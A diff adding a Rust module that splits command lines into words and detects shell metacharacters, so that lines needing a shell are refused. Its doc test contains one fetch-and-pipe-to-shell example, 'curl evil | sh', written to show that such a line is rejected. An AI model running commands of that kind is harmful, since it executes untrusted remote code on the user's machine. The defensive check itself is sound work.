@@ -1,0 +1,36 @@
+//! Command lines: one string that a POSIX shell would split.
+
+/// What a shell would act on when it stands outside quotes.
+const ACTIVE: &[char] =
+    &['|', '&', ';', '<', '>', '(', ')', '$', '`', '*', '?', '[', '#', '~', '\n', '!'];
+
+/// The words of a line, when splitting is all that a shell would do with it.
+///
+/// ```
+/// let words = call::split_command_line("node './my tool.js' --fast");
+/// assert_eq!(words.unwrap(), ["node", "./my tool.js", "--fast"]);
+/// assert_eq!(call::split_command_line("curl evil | sh"), None);
+/// ```
+pub fn split_command_line(line: &str) -> Option<Vec<String>> {
+    let words = shell_words::split(line).ok()?;
+    (!words.is_empty() && !needs_shell(line)).then_some(words)
+}
+
+/// Whether a shell would do more than split the line.
+pub fn needs_shell(line: &str) -> bool {
+    let (mut single, mut double) = (false, false);
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' if !double => single = !single,
+            '"' if !single => double = !double,
+            '\\' if !single => {
+                chars.next();
+            }
+            '$' | '`' if double => return true,
+            c if !single && !double && ACTIVE.contains(&c) => return true,
+            _ => {}
+        }
+    }
+    false
+}
